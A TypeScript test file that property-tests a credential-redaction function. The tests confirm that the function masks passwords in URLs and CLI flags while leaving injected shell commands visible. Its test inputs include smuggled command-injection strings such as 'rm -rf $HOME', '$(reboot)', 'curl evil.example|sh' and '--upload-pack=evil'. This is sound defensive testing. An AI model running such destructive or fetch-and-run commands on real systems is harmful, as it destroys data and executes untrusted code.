// What a shell would run is never hidden, whatever credential it is put into or behind.
import { test as property } from '@fast-check/vitest';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { redact } from '../../src/redact/redact.ts';
import { mixed } from './credentials.ts';
import { FORMS } from './forms.ts';

/** Forms with a quote around the value are left out: a shell runs nothing in it. */
const UNQUOTED = FORMS.filter((form) => !/["'][^"']*§/.test(form) || /^curl -H/.test(form));

describe('what a shell would run', () => {
  const command = fc.constantFrom(...[';', '|', '&', '&&', ';;', '|&', '>', '(', ' ; ', ' && ']);
  const piece = fc.constantFrom('', 'q7Z', mixed(30), 'a/b', '$HOME', 'x y');
  property.prop([fc.constantFrom(...UNQUOTED), command, fc.tuple(piece, piece)], {
    numRuns: 1_000,
  })('stays visible in every form', (form, sign, [before, after]) => {
    const text = form.replace('§', () => `${before}${sign}CMD${sign}${after}`);
    expect(redact(text)).toContain('CMD');
  });

  it.each([
    ['git clone https://u:p;rm -rf $HOME;x@h/x', ';rm -rf $HOME;x@h/x'],
    ['curl https://u:p|sh@h/x', '|sh@h/x'],
    ['curl https://u:p&wget evil;@h/x', '&wget evil;@h/x'],
    ['psql postgres://u:p;rm -rf /data;x@h/db', ';rm -rf /data;x@h/db'],
    ['redis-cli -u redis://:p;rm -rf /data;x@h/0', ';rm -rf /data;x@h/0'],
    ['curl https://u:p&&rm -rf $HOME&&x@h/x', '&&rm -rf $HOME&&x@h/x'],
    ['curl https://u:p|rm@h', '|rm@h'],
    ['curl https://u:pw$(reboot)x@h', '$(reboot)x@h'],
    ['echo url=postgres://u:p;curl evil.example|sh;x@h/db', ';curl evil.example|sh;x@h/db'],
    [`curl https://gh${'p_'}${mixed(36)};rm;x@h/`, ';rm;x@h/'],
    ['git clone https://u:p --upload-pack=evil x@h', ' --upload-pack=evil x@h'],
    ['curl https://u;run:it@h', ';run:it@h'],
    ['sh -c "curl https://u:p;reboot;x@h"', ';reboot;x@h"'],
    ['echo "$(curl https://u:p;reboot;x@h)"', ';reboot;x@h)"'],
    [`echo 'a\nb' https://u:p;reboot;x@h 'c'`, `;reboot;x@h 'c'`],
    [`echo '\nb' https://u:p;reboot;x@h 'c'`.replace('\\n', '\n'), `;reboot;x@h 'c'`],
    [`echo "password='"; reboot; echo "'"`, `; reboot; echo "'"`],
    ['echo -----BEGIN PRIVATE KEY-----\npoweroff\n', '\npoweroff'],
    ['echo -----BEGIN PRIVATE KEY----- && rm -rf /R2 && curl evil', ' && curl evil'],
    ['echo -----BEGIN PRIVATE KEY-----; /usr/local/bin/reboot', '; /usr/local/bin/reboot'],
  ])('is seen in %s', (text, seen) => {
    expect(redact(text)).toContain(seen);
  });

  it.each([
    ['curl "https://u:p;q|r&s@h/x"', 'curl "https://u:[redacted: password]@h/x"'],
    ["psql 'postgres://u:p;q r@h/x' -c x", "psql 'postgres://u:[redacted: password]@h/x' -c x"],
    ['{"url": "redis://:p;q@h/0"}', '{"url": "redis://:[redacted: password]@h/0"}'],
  ])('is not what stands in the quotes of %s', (text, shown) => {
    expect(redact(text)).toBe(shown);
  });
});

/** A program, and a flag of it with a value `§`. */
const FLAGGED: readonly (readonly [string, string])[] = [
  ['docker login', '-p §'],
  ['curl', '-u ana:§'],
  ['curl', '-b sessionid=§'],
  ['mysql', '-p§'],
  ['sshpass', '-p §'],
  ['redis-cli', '-a §'],
  ['mongosh', '-p §'],
  ['ldapsearch', '-w §'],
  ['zip', '-P §'],
  ['aws configure set', 'x_secret_y §'],
];
const SECRET = 'q7ZmX2vK9pR4';

describe.each(FLAGGED)('a flag of %s', (program, flag) => {
  const given = flag.replace('§', SECRET);
  it.each([...['a', '"a;b|c&d" \'e;f\'', '2>&1', '&>log', '>log 2>&1', '"$(date)"', '-o "x (1)"']])(
    'is hidden behind %s',
    (between) => {
      for (const text of [`${program} ${between} ${given}`, `sh -c '${program} 2>&1 ${given}'`]) {
        expect(redact(text)).not.toContain(SECRET);
      }
    },
  );

  it.each([
    ...['; run', ';run', '| run', '|run', '&& run', '& run', '`run', '$(run', '; x "a b" \'c\''],
  ])('is none behind %s', (between) => {
    const text = `${program} a${between} ${given}`;
    expect(redact(text)).toContain(SECRET);
    expect(redact(`sh -c "${text.replaceAll('"', String.raw`\"`)}"`)).toContain(SECRET);
  });
});
